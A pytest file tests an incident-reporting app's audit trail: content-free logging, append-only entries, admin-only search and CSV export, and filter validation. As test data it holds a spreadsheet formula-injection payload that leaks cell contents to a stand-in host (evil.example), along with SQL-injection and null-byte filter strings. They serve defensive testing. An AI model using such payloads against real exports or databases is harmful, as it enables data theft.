"""The audit trail: what is recorded (never contents), the privacy officer's search, and that
entries can only be added."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from flask_babel import force_locale
from sqlalchemy import func, or_, select

from incidents import audit_labels, services
from incidents.admin import audit as audit_view
from incidents.extensions import db
from incidents.models import (
    AftercareStep,
    AuditAction,
    AuditEvent,
    Channel,
    IncidentType,
    PerpetratorKnown,
    Role,
)
from incidents.services import ReportData
from tests.conftest import PASSWORD, form_errors, login

NOW = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)
ADDRESS = "127.0.0.1"  # the test client's address
DESCRIPTION = "Zebracrossing-umbrella-7731 thrown at the counter"
PERPETRATOR = "Quintijn Vermeulen-Oostergo"


@pytest.fixture
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def org(make_user, make_team):
    boss = make_user(Role.MANAGER, name="Boss")
    income = make_team("Income", manager=boss)
    other = make_team("Enforcement", manager=make_user(Role.MANAGER, name="Other boss"))
    return {
        "boss": boss,
        "victim": make_user(name="Victim", team=income, email="victim@example.test"),
        "witness": make_user(name="Witness", team=other),
        "admin": make_user(Role.ADMIN, name="Ada Admin"),
        "hr": make_user(Role.HR, name="Hanna HR"),
    }


@pytest.fixture
def incident(org, frozen):
    return services.save_report(
        org["victim"],
        "audit-test-token-0001",
        ReportData(
            occurred_at=NOW - timedelta(minutes=30),
            channel=Channel.COUNTER,
            types=[IncidentType.PHYSICAL],
            description=DESCRIPTION,
            affected_ids=[org["victim"].id],
            witness_ids=[org["witness"].id],
            perpetrator_known=PerpetratorKnown.KNOWN,
            perpetrator_name=PERPETRATOR,
        ),
        submit=True,
    )


def events(action=None):
    query = select(AuditEvent).order_by(AuditEvent.id)
    if action:
        query = query.where(AuditEvent.action == action)
    return db.session.scalars(query).all()


def row_text(event: AuditEvent) -> str:
    return repr(
        (event.actor_id, event.action, event.object_type, event.object_id, event.details)
    ) + repr(event.address)


def client_of(app, user):
    return login(app.test_client(), user)


def post_login(client, email, password):
    return client.post("/login", data={"email": email, "password": password})


# What is recorded


def test_login_failed_logins_and_logout_are_recorded_without_what_was_typed(client, org):
    victim = org["victim"]
    post_login(client, "nobody-at-all@example.test", "a guessed secret")
    post_login(client, "victim@example.test", "wrong password typed")
    assert post_login(client, "victim@example.test", PASSWORD).status_code == 302
    assert client.post("/logout").status_code == 302

    unknown, wrong = events("auth.login_failed")
    assert (unknown.actor_id, unknown.object_id, unknown.details) == (
        None,
        None,
        {"account_exists": False},
    )
    assert (wrong.actor_id, wrong.object_type, wrong.object_id, wrong.details) == (
        None,
        "user",
        victim.id,
        {"account_exists": True},
    )
    for event in (unknown, wrong):
        assert event.address == ADDRESS
        for typed in ("nobody-at-all", "guessed secret", "victim@example", "wrong password"):
            assert typed not in row_text(event)

    (login_event,) = events("auth.login")
    (logout_event,) = events("auth.logout")
    for event in (login_event, logout_event):
        assert (event.actor_id, event.object_type, event.object_id, event.address) == (
            victim.id,
            "user",
            victim.id,
            ADDRESS,
        )
        assert PASSWORD not in row_text(event)


def test_incident_and_step_views_are_recorded(app, org, incident, frozen):
    victim, witness, boss = org["victim"], org["witness"], org["boss"]
    assert client_of(app, victim).get(f"/incidents/{incident.id}").status_code == 200
    assert client_of(app, witness).get(f"/incidents/{incident.id}").status_code == 200
    assert client_of(app, victim).get(f"/incidents/{incident.id}/edit").status_code == 200
    step = db.session.scalar(
        select(AftercareStep).where(AftercareStep.owner_id == boss.id).order_by(AftercareStep.id)
    )
    assert step is not None
    assert client_of(app, boss).get(f"/aftercare/steps/{step.id}").status_code == 200

    full, seen_by_witness = events("incident.view")
    assert (full.actor_id, full.details) == (victim.id, {"view": "full"})
    assert (seen_by_witness.actor_id, seen_by_witness.details) == (witness.id, {"view": "witness"})
    (edit,) = events("incident.view_edit")
    assert (edit.actor_id, edit.details) == (victim.id, {"view": "full"})
    for event in (full, seen_by_witness, edit):
        assert (event.object_type, event.object_id, event.address) == (
            "incident",
            incident.id,
            ADDRESS,
        )
    (step_view,) = events("step.view")
    assert (step_view.actor_id, step_view.object_type, step_view.object_id) == (
        boss.id,
        "aftercarestep",
        step.id,
    )
    assert (step_view.details, step_view.address) == ({"incident": incident.id}, ADDRESS)


def test_an_admin_change_and_an_export_are_recorded(app, org, frozen):
    admin = client_of(app, org["admin"])
    response = admin.post(
        "/admin/users/new",
        data={
            "name": "Nina New",
            "email": "nina@example.test",
            "role": "employee",
            "team": "0",
            "password": "a long enough password",
        },
    )
    assert response.status_code == 302
    (created,) = [e for e in events("user.create") if e.actor_id is not None]
    assert (created.actor_id, created.object_type, created.address) == (
        org["admin"].id,
        "user",
        ADDRESS,
    )
    assert "nina" not in row_text(created).lower()

    assert client_of(app, org["hr"]).get("/hr/statistics?by=channel").status_code == 200
    (view,) = events("stats.view")
    assert (view.actor_id, view.address, view.details) == (org["hr"].id, ADDRESS, {"by": "channel"})


def sweep(app, org, incident):
    """Every kind of action once; yields after each, so a caller can look in between."""
    anonymous = app.test_client()
    post_login(anonymous, "victim@example.test", "wrong")
    yield
    post_login(anonymous, "victim@example.test", PASSWORD)
    yield
    victim = client_of(app, org["victim"])
    victim.get(f"/incidents/{incident.id}")
    yield
    victim.get(f"/incidents/{incident.id}/edit")
    yield
    client_of(app, org["witness"]).get(f"/incidents/{incident.id}")
    yield
    step = db.session.scalar(select(AftercareStep).where(AftercareStep.owner_id == org["boss"].id))
    assert step is not None
    client_of(app, org["boss"]).get(f"/aftercare/steps/{step.id}")
    yield
    client_of(app, org["hr"]).get("/hr/statistics?period=2025")
    yield
    admin = client_of(app, org["admin"])
    admin.post(f"/admin/users/{org['witness'].id}/active")
    yield
    admin.get("/admin/audit")
    admin.get(f"/admin/audit?object_type=incident&object_id={incident.id}")
    yield
    anonymous.post("/logout")
    yield


def test_entries_never_hold_contents(app, org, incident, frozen):
    for _ in sweep(app, org, incident):
        pass
    recorded = events()
    assert {e.action for e in recorded} >= {
        "auth.login",
        "auth.login_failed",
        "auth.logout",
        "incident.submit",
        "incident.view",
        "incident.view_edit",
        "step.view",
        "stats.view",
        "user.deactivate",
        "audit.view",
    }
    for event in recorded:
        text = row_text(event)
        for content in (DESCRIPTION, "Zebracrossing", PERPETRATOR, "Vermeulen"):
            assert content not in text


# Nothing can change or remove an entry


def test_no_route_changes_or_removes_audit_entries(app):
    rules = [r for r in app.url_map.iter_rules() if r.rule.startswith("/admin/audit")]
    assert rules, "the audit trail page exists"
    for rule in rules:
        assert not (rule.methods or set()) & {"POST", "PUT", "PATCH", "DELETE"}, rule.rule


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_writing_to_the_audit_page_is_refused(app, org, method):
    admin = client_of(app, org["admin"])
    before = len(events())
    assert getattr(admin, method)("/admin/audit").status_code == 405
    assert len(events()) == before


def test_entries_only_grow_across_a_sweep_of_actions(app, org, incident, frozen):
    seen: dict[int, str] = {}
    for _ in sweep(app, org, incident):
        db.session.expire_all()
        now = {e.id: row_text(e) for e in events()}
        assert all(now.get(i) == text for i, text in seen.items())  # nothing changed or gone
        assert len(now) >= len(seen)
        seen = now
    assert len(seen) > 10


# The privacy officer's search


def trail(org, count=3, **overrides):
    """`count` entries per person, by hand, one a day going back from NOW."""
    with services.transaction():
        for n in range(count):
            for who in (org["victim"], org["boss"]):
                event = services.audit(who, overrides.get("action", "incident.view"), who)
                event.at = NOW - timedelta(days=n)


def reading_labels(app) -> set[str]:
    """What reading the trail is called, in both languages."""
    with app.test_request_context():
        found = set()
        for locale in ("nl", "en"):
            with force_locale(locale):
                found.add(str(audit_labels.ACTION_LABELS[AuditAction.AUDIT_VIEW]))
        return found


def rows(html: str) -> list[str]:
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0] if "<tbody>" in html else ""
    # Reading the trail is recorded too; those entries are left out here.
    return [
        r
        for r in re.findall(r"<tr>(.*?)</tr>", body, re.S)
        if not any(label in r for label in READING)
    ]


READING: set[str] = set()


@pytest.fixture(autouse=True)
def _reading(app):
    READING.update(reading_labels(app))


@pytest.fixture
def officer(app, org, frozen):
    return client_of(app, org["admin"])


def in_english(app, user):
    with services.transaction():
        account = db.session.get(type(user), user.id)
        assert account is not None
        account.locale = "en"


def test_the_page_lists_entries_newest_first_in_words(app, officer, org):
    in_english(app, org["admin"])
    with services.transaction():
        services.audit(org["victim"], AuditAction.AUTH_LOGIN, org["victim"]).address = "10.0.0.7"
        services.audit(None, AuditAction.RETENTION_RUN, None, deleted=2, note="<b>x</b>")
    page = officer.get("/admin/audit").text
    newest, oldest = rows(page)[:2]
    assert "system" in newest and "Ran the retention job" in newest
    assert "Deleted: 2" in newest
    assert "note: &lt;b&gt;x&lt;/b&gt;" in newest  # an unknown key as recorded, escaped
    assert "Victim" in oldest and "Logged in" in oldest and "10.0.0.7" in oldest
    assert "Account: Victim" in oldest
    for code in ("auth.login", "retention.run", "deleted=2", ">user<"):
        assert code not in newest + oldest
    assert 'class="table-wrap" tabindex="0" role="region" aria-label=' in page
    assert '<table class="stack">' in page
    assert 'data-label="When"' in page and 'data-label="What"' in page
    assert "/admin/audit" in officer.get("/admin/users").text


def test_incident_and_step_entries_name_the_incident_by_its_number(
    app, officer, org, incident, frozen
):
    in_english(app, org["admin"])
    victim, boss = org["victim"], org["boss"]
    client_of(app, victim).get(f"/incidents/{incident.id}")
    client_of(app, org["witness"]).get(f"/incidents/{incident.id}")
    step = db.session.scalar(select(AftercareStep).where(AftercareStep.owner_id == boss.id))
    assert step is not None
    client_of(app, boss).get(f"/aftercare/steps/{step.id}")
    assert incident.number
    page = officer.get("/admin/audit").text
    shown = rows(page)
    assert any(
        "Opened the whole incident" in r and f"Incident {incident.number}" in r for r in shown
    )
    assert any("Opened a witness&#39;s view of the incident" in r for r in shown)
    assert any(
        "Opened an aftercare step" in r
        and f"Aftercare step {step.id} of incident {incident.number}" in r
        and f"Incident: {incident.number}" in r
        for r in shown
    )
    assert any("Submitted a report" in r for r in shown)
    table = page.split("<tbody>", 1)[1]
    for code in ("view=full", "step.view", "aftercarestep", "incident.view"):
        assert code not in table


def test_a_draft_is_named_as_such_and_a_discarded_one_by_its_id(app, officer, org, frozen):
    in_english(app, org["admin"])
    draft = services.save_report(
        org["victim"], "audit-test-token-0003", ReportData(description="half"), submit=False
    )
    kept = services.save_report(
        org["victim"], "audit-test-token-0004", ReportData(description="kept"), submit=False
    )
    draft_id = draft.id
    services.discard_draft(org["victim"], draft)
    shown = rows(officer.get("/admin/audit?object_type=incident").text)
    assert any("Discarded a draft" in r and f"Incident id {draft_id}" in r for r in shown)
    assert any("Saved a draft report" in r and f"Incident draft, id {kept.id}" in r for r in shown)


def test_the_page_speaks_the_users_language(app, officer, org, incident):
    dutch = officer.get("/admin/audit").text
    in_english(app, org["admin"])
    english = officer.get("/admin/audit").text
    assert "Logboek" in dutch and "Audit trail" in english
    with app.test_request_context():
        for locale, page in (("nl", dutch), ("en", english)):
            with force_locale(locale):
                submitted = str(audit_labels.ACTION_LABELS[AuditAction.INCIDENT_SUBMIT])
                about = str(audit_labels.OBJECT_LABELS["incident"])
            assert submitted in page
            assert f"{about} {incident.number}" in page
    assert "Submitted a report" in english


def test_every_action_group_object_and_team_role_has_a_label():
    assert set(audit_labels.ACTION_LABELS) == set(AuditAction), "label the new actions"
    groups = {action.value.split(".", 1)[0] for action in AuditAction}
    assert groups <= set(audit_labels.ACTION_GROUP_LABELS)
    for (action, key, _value), _label in audit_labels.ACTION_VARIANTS.items():
        assert action in AuditAction and key in audit_labels.DETAIL_LABELS
    registry = db.Model.registry  # type: ignore[attr-defined]
    models = {mapper.class_.__name__.lower() for mapper in registry.mappers}
    audited = {"incident", "aftercarestep", "user", "team", "location", "notification"}
    audited |= {"scimtoken", "orgimport", "retentionrun"}
    assert audited <= set(audit_labels.OBJECT_LABELS) <= models


def test_every_action_is_in_the_filter_in_words(app, officer, org):
    in_english(app, org["admin"])
    page = officer.get("/admin/audit").text
    for action in AuditAction:
        assert f'value="{action.value}"' in page
    assert '<optgroup label="Signing in">' in page
    assert ">Signing in: everything</option>" in page
    assert ">Logged in</option>" in page


def shown(officer, query):
    return rows(officer.get("/admin/audit?" + query).text)


def test_filters_by_actor_action_object_and_period(officer, org, frozen):
    victim, boss = org["victim"], org["boss"]
    setting_up = len(shown(officer, ""))  # the accounts and teams of the fixture
    trail(org, count=3)
    with services.transaction():
        services.audit(org["boss"], AuditAction.AUTH_LOGOUT, org["boss"])
    assert len(shown(officer, "")) == setting_up + 7
    # By part of a name or an e-mail address, in any case; LIKE's wildcards are plain text.
    assert len(shown(officer, "actor=victim")) == 3
    assert len(shown(officer, "actor=VICTIM%40example")) == 3
    assert len(shown(officer, "actor=Bos")) == 4
    assert len(shown(officer, "actor=%25")) == 0
    assert len(shown(officer, "actor=_")) == 0
    assert len(shown(officer, "action=auth.logout")) == 1
    assert len(shown(officer, "action=auth.*")) == 1
    assert len(shown(officer, "action=incident.view")) == 6
    # with the account creation and becoming a team manager
    assert len(shown(officer, f"object_type=user&object_id={boss.id}")) == 6
    # Dates are days in the organisation's time zone, both ends included.
    yesterday = (NOW - timedelta(days=1)).date().isoformat()
    assert len(shown(officer, f"since={yesterday}&until={yesterday}")) == 2
    assert len(shown(officer, f"since={yesterday}&action=incident.view")) == 4
    assert len(shown(officer, f"until={yesterday}&action=incident.view")) == 4
    with services.transaction():  # 23:30 UTC is already the next day in Amsterdam
        services.audit(boss, AuditAction.INCIDENT_VIEW_EDIT, boss).at = datetime(
            2026, 3, 7, 23, 30, tzinfo=UTC
        )
    q = "action=incident.view_edit"
    assert len(shown(officer, f"since=2026-03-08&until=2026-03-08&{q}")) == 1
    assert len(shown(officer, f"since=2026-03-07&until=2026-03-07&{q}")) == 0
    assert len(shown(officer, f"actor=boss&action=incident.view&since={yesterday}")) == 2
    assert all("Victim" in r for r in shown(officer, f"actor={victim.name}"))


def test_the_incident_filter_finds_the_incident_and_its_steps(app, officer, org, incident):
    other = services.save_report(
        org["victim"],
        "audit-test-token-0002",
        ReportData(
            occurred_at=NOW - timedelta(minutes=10),
            channel=Channel.PHONE,
            types=[IncidentType.VERBAL],
            description="another",
            affected_ids=[org["victim"].id],
            perpetrator_known=PerpetratorKnown.UNKNOWN,
        ),
        submit=True,
    )
    victim = client_of(app, org["victim"])
    victim.get(f"/incidents/{incident.id}")
    victim.get(f"/incidents/{other.id}")
    step = db.session.scalar(select(AftercareStep).where(AftercareStep.incident_id == incident.id))
    assert step is not None and step.owner is not None
    client_of(app, step.owner).get(f"/aftercare/steps/{step.id}")
    mine = shown(officer, f"incident={incident.number}")
    expected = db.session.scalar(
        select(func.count())
        .select_from(AuditEvent)
        .where(
            or_(
                (AuditEvent.object_type == "incident") & (AuditEvent.object_id == incident.id),
                (AuditEvent.object_type == "aftercarestep")
                & AuditEvent.object_id.in_(
                    select(AftercareStep.id).where(AftercareStep.incident_id == incident.id)
                ),
            )
        )
    )
    assert expected is not None and expected >= 3  # submitted, viewed, its step viewed
    assert len(mine) == expected
    assert all(incident.number in r and other.number not in r for r in mine)
    # Typed as people do: without the zeros, with a slash or a hash.
    year, place = incident.number.split("-")
    assert len(shown(officer, f"incident=%23{year}/{int(place)}")) == expected


@pytest.mark.parametrize(
    "query, field",
    [
        ("actor=" + "x" * 101, "actor"),
        ("action=drop table", "action"),
        ("action=auth.login%00", None),  # control characters are dropped: a valid action
        ("object_type=%00", None),  # control characters are dropped from all input: an empty filter
        ("object_type=no-such-type", "object_type"),
        ("object_id=-1", "object_id"),
        ("object_id=1e999", "object_id"),
        ("object_id=99999999999999999999", "object_id"),
        ("incident=abc", "incident"),
        ("incident=2026-9999", "incident"),
        ("incident=2026-0000", "incident"),
        ("incident=%27%20OR%201=1--", "incident"),
        ("since=2025-13-45", "since"),
        ("since=0001-01-01", "since"),
        ("until=9999-12-31", "until"),
        ("since=2026-03-10&until=2026-03-01", "until"),
        ("before=abc", None),
        ("before=-5", None),
        ("before=99999999999999999999", None),
    ],
)
def test_bad_filter_input_is_ignored_with_a_message(officer, org, frozen, query, field):
    trail(org, count=1)
    everything = len(rows(officer.get("/admin/audit").text))
    response = officer.get("/admin/audit?" + query)
    assert response.status_code == 200
    if query.startswith("action=auth.login"):
        assert len(rows(response.text)) == 0  # nobody logged in: the fixture logs in directly
    else:
        assert len(rows(response.text)) == everything  # the bad filter restricts nothing
    assert form_errors(response.text) == ([field] if field else [])
    assert officer.get("/admin/audit.csv?" + query).status_code == 200


def next_page(html: str) -> str:
    """The page's link to the next (older) page."""
    found = re.search(r'href="([^"]*before=\d+[^"]*)" rel="next"', html)
    assert found is not None, "no link to a next page"
    return found.group(1)


def test_keyset_paging_by_fifty(officer, org, frozen):
    trail(org, count=60)  # 120 entries
    first = officer.get("/admin/audit?action=incident.view").text
    assert len(rows(first)) == 50
    older = next_page(first)
    assert "action=incident.view" in older.replace("&amp;", "&")
    second = officer.get(older.replace("&amp;", "&")).text
    third_link = next_page(second)
    third = officer.get(third_link.replace("&amp;", "&")).text
    assert (len(rows(second)), len(rows(third))) == (50, 20)
    assert 'rel="next"' not in third
    ids = [int(i) for i in re.findall(r"before=(\d+)", older + third_link)]
    assert ids[0] > ids[1]


def every_kind(org, incident, times):
    """`times` entries of each kind a page names: people, teams, incidents, steps."""
    step = db.session.scalar(select(AftercareStep).where(AftercareStep.incident_id == incident.id))
    team = org["victim"].team
    with services.transaction():
        for _ in range(times):
            services.audit(org["admin"], AuditAction.USER_UPDATE, org["victim"], fields=["name"])
            services.audit(org["admin"], AuditAction.TEAM_UPDATE, team, fields=["name_nl"])
            services.audit(org["boss"], AuditAction.INCIDENT_VIEW, incident, view="full")
            services.audit(
                org["boss"], AuditAction.STEP_OWNER, step, owner=org["boss"].id, previous=None
            )
            services.audit(org["boss"], AuditAction.STEP_VIEW, step, incident=incident.id)
            services.audit(
                None, AuditAction.USER_TEAM_ROLE, org["boss"], team=team.id, role="manager"
            )


def test_the_page_runs_a_constant_number_of_queries(
    officer, org, incident, make_user, count_queries
):
    every_kind(org, incident, 1)
    with count_queries() as few:
        officer.get("/admin/audit")
    people = [make_user() for _ in range(10)]
    with services.transaction():
        for n in range(60):
            services.audit(people[n % 10], list(AuditAction)[n % 7], people[n % 10])
    every_kind(org, incident, 10)
    with count_queries() as many:
        officer.get("/admin/audit")
    assert many.count == few.count


@pytest.mark.parametrize("role", [Role.EMPLOYEE, Role.MANAGER, Role.HR])
@pytest.mark.parametrize("path", ["/admin/audit", "/admin/audit.csv"])
def test_only_admins_see_or_export_the_trail(app, make_user, role, path):
    before = len(events(AuditAction.AUDIT_EXPORT))
    assert client_of(app, make_user(role)).get(path).status_code == 403
    assert app.test_client().get(path).status_code == 302
    assert len(events(AuditAction.AUDIT_EXPORT)) == before


# The CSV export


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_the_export_neutralises_formulas_and_is_audited(app, officer, org, make_user, frozen):
    in_english(app, org["admin"])
    attacker = make_user(name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    with services.transaction():
        services.audit(attacker, AuditAction.AUTH_LOGIN, attacker).address = "10.0.0.9"
        services.audit(None, AuditAction.RETENTION_RUN, None, reason="+SUM(A1:A9)")
    header, *lines = csv_rows(officer.get("/admin/audit.csv?actor=HYPERLINK"))
    assert header[:5] == ["Time", "Who", "E-mail address", "What", "Action code"]
    assert lines
    for line in lines:
        assert line[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line)
    login_line = next(line for line in lines if line[4] == "auth.login")
    assert login_line[3] == "Logged in" and login_line[9] == "10.0.0.9"
    assert login_line[5].startswith("Account: '=HYPERLINK") or "HYPERLINK" in login_line[5]
    assert login_line[0] == "2026-03-10T10:30:00+01:00"  # the organisation's time zone
    (export,) = events(AuditAction.AUDIT_EXPORT)
    assert (export.actor_id, export.details, export.address) == (
        org["admin"].id,
        {"who": "HYPERLINK"},
        ADDRESS,
    )
    # The export is itself in the trail, in words.
    assert any("Exported the audit trail" in r for r in shown(officer, "action=audit.export"))
    (_, retention), *_ = [
        (h, line)
        for h, line in [(header, line) for line in csv_rows(officer.get("/admin/audit.csv"))[1:]]
        if line[4] == "retention.run"
    ]
    assert retention[10] == "Reason: +SUM(A1:A9)"  # inside a cell, not at its start: text


def test_the_export_holds_exactly_the_filtered_rows(app, officer, org, incident, frozen):
    trail(org, count=5)
    client_of(app, org["victim"]).get(f"/incidents/{incident.id}")
    officer.get("/admin/audit")  # reading the trail: an entry of its own
    steps = set(
        db.session.scalars(select(AftercareStep.id).where(AftercareStep.incident_id == incident.id))
    )
    zone = ZoneInfo("Europe/Amsterdam")
    filters = {
        "": lambda e: True,
        "action=incident.view": lambda e: e.action == "incident.view",
        "action=incident.*": lambda e: e.action.startswith("incident."),
        f"actor={org['boss'].email}": lambda e: e.actor_id == org["boss"].id,
        f"incident={incident.number}": lambda e: (
            (e.object_type, e.object_id) == ("incident", incident.id)
            or (e.object_type == "aftercarestep" and e.object_id in steps)
        ),
        "object_type=user&since=2026-03-08&until=2026-03-09": lambda e: (
            e.object_type == "user"
            and date(2026, 3, 8) <= e.at.astimezone(zone).date() <= date(2026, 3, 9)
        ),
        "action=auth.logout": lambda e: e.action == "auth.logout",  # none
    }
    for query, wanted in filters.items():
        written_before = events()
        lines = csv_rows(officer.get("/admin/audit.csv?" + query))[1:]
        # What was written before the export (never its own entry), newest first.
        expected = [
            (e.at.astimezone(zone).isoformat(timespec="seconds"), e.action, str(e.object_id or ""))
            for e in reversed(written_before)
            if wanted(e)
        ]
        assert [(line[0], line[4], line[7]) for line in lines] == expected, query
        (export,) = events()[len(written_before) :]
        assert export.action == AuditAction.AUDIT_EXPORT
    assert len(filters) == len(events(AuditAction.AUDIT_EXPORT))


def test_the_export_reads_in_pages_with_the_same_queries_per_page(
    app, officer, org, incident, count_queries, monkeypatch
):
    monkeypatch.setattr(audit_view, "EXPORT_PAGE_SIZE", 10)
    step = db.session.scalar(select(AftercareStep).where(AftercareStep.incident_id == incident.id))

    def add(n):
        with services.transaction():
            for i in range(n):
                who = (org["boss"], org["victim"], org["hr"])[i % 3]
                services.audit(who, AuditAction.STEP_OWNER, step, owner=who.id, previous=None)

    def export():
        with count_queries() as counted:
            lines = csv_rows(officer.get("/admin/audit.csv?action=step.owner"))[1:]
        return len(lines), counted.count

    add(15)
    (fifteen, two_pages), (thirty_five, four_pages) = export(), (add(20), export())[1]
    add(20)
    fifty_five, six_pages = export()
    assert (fifteen, thirty_five, fifty_five) == (15, 35, 55)
    # Two more pages cost the same queries each time: a few per page, whatever its size.
    assert six_pages - four_pages == four_pages - two_pages
    assert 0 < (four_pages - two_pages) / 2 <= 6
